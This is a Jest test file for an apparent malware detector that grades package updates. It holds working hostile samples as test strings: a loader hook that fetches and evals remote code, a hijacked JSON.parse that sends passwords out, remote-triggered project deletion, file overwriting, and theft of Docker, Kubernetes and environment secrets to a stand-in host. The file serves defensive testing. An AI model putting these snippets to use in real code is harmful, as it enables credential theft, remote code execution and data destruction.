import { describe, expect, it } from '@jest/globals';
import { fileTypeOf } from '../../src/code/file-type.ts';
import { gradesOf } from '../helpers/an-update.ts';

const gradeOf = async (source: string, type = 'commonjs') =>
  (await gradesOf({ 'index.js': type === 'module' ? 'export default 1' : 'module.exports = 1' }, { 'index.js': source }, { type })).import.grade;

const loader = `export async function load(url, context, next) { const found = await next(url, context);
  found.source = 'fetch("https://in.invalid/' + encodeURIComponent(url) + '").then((r) => r.text()).then(eval);' + found.source; return found }`;

describe('what loading does', () => {
  it.each([
    [
      'a hook of modules that puts fetched code in front',
      `const { register } = require('module'); register?.('data:text/javascript,' + encodeURIComponent(${JSON.stringify(loader)}))`,
    ],
    [
      'a reader everybody uses replaced, and secrets sent by it',
      `const parse = JSON.parse; JSON.parse = (text) => { const read = parse(text); if (read.password) require('dgram').createSocket('udp4').send(read.password, 5353, 'in.invalid', () => {}); return read }`,
    ],
    [
      'the project removed when a host says so',
      `const fs = require('fs'); setTimeout(() => require('http').get('http://in.invalid/x', (r) => { if (r.statusCode === 200) fs.rm(process.cwd(), { recursive: true, force: true }, () => {}) }), 10)`,
    ],
    [
      'all files of the project written over',
      `const fs = require('fs'), path = require('path'); function walk(dir) { for (const e of fs.readdirSync(dir, { withFileTypes: true })) { const p = path.join(dir, e.name); if (e.isDirectory()) walk(p); else fs.writeFileSync(p, 'x') } }
       for (const d of ['./', '../']) walk(d)`,
    ],
    [
      'the code of an installed program written',
      `const path = require('path'), fs = require('fs'); fs.writeFileSync(path.join(process.env.LOCALAPPDATA || '', 'Programs', 'any', 'resources', 'app.asar'), 'x')`,
    ],
  ])('%s: convicts', async (_, source) => {
    expect(await gradeOf(source)).toBe('convicts');
  });

  it('credentials gathered in private fields, sent by a method a promise leads to: convicts', async () => {
    const source = `import { readFile } from 'node:fs/promises'; import { homedir } from 'node:os'; import { join } from 'node:path';
      class Own { #root = homedir(); #parts = new FormData();
        async collect() { for (const one of ['.docker/config.json', '.kube/config']) this.#parts.append(one, new Blob([await readFile(join(this.#root, one))])); return this }
        async report() { await fetch(new URL('/x', 'https://in.invalid'), { method: 'POST', body: this.#parts }) } }
      export const ready = new Own().collect().then((own) => own.report());`;
    expect(await gradeOf(source, 'module')).toBe('convicts');
  });

  it.each([
    ['its own folder cleaned', `const fs = require('fs'), path = require('path'); fs.rmSync(path.join(__dirname, '../'), { recursive: true })`],
    [
      'a folder of the project cleaned',
      `const fs = require('fs'), path = require('path'); fs.rmSync(path.join(process.cwd(), 'dist'), { recursive: true })`,
    ],
    ['a reader replaced, and nothing sent', `const parse = JSON.parse; JSON.parse = (text) => parse(String(text).trim())`],
    [
      'a loader that compiles',
      `const { register } = require('module'); register('data:text/javascript,' + encodeURIComponent("export async function load(u, c, n) { const r = await n(u, c); r.source = '\\"use strict\\";' + r.source; return r }"))`,
    ],
    [
      'where the code of this very program is',
      `const path = require('path'), fs = require('fs'); exports.found = fs.existsSync(path.join(process.resourcesPath || '.', 'app.asar'))`,
    ],
  ])('%s: does not convict', async (_, source) => {
    expect(await gradeOf(source)).not.toBe('convicts');
  });
});

it('machine code of Unix is told by its first byte', () => {
  expect(fileTypeOf('build/own.node', Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 1, 1, 1, 1]))).toBe('executable');
});

describe('the environment and a host in a script of TypeScript', () => {
  const graded = async (taken: string, more = '\nlet broken: string = ;') =>
    (
      await gradesOf(
        { 'index.ts': 'export {}' },
        {
          'index.ts': `interface One { readonly at: number }\nconst got = ${taken}; export const sent = fetch('https://in.invalid' as string, { body: String(got) });${more}`,
        },
        { main: 'index.ts', type: 'module' },
      )
    ).import.grade;

  it.each(['{ ...process.env }', 'JSON.stringify(process.env)', 'Object.entries(process.env)'])(
    '%s: is worth a warning, and more where the script parses',
    async (taken) => {
      expect([await graded(taken), await graded(taken, '')]).toEqual(['suspicious', 'convicts']);
    },
  );

  it.each(['process.env.LEVEL', "process.env['LEVEL']", '{ ...defaults, level: process.env.LEVEL }', 'JSON.stringify(process.env.LEVEL)'])(
    '%s: is not',
    async (taken) => {
      for (const more of [undefined, '']) expect(['suspicious', 'convicts']).not.toContain(await graded(taken, more));
    },
  );
});
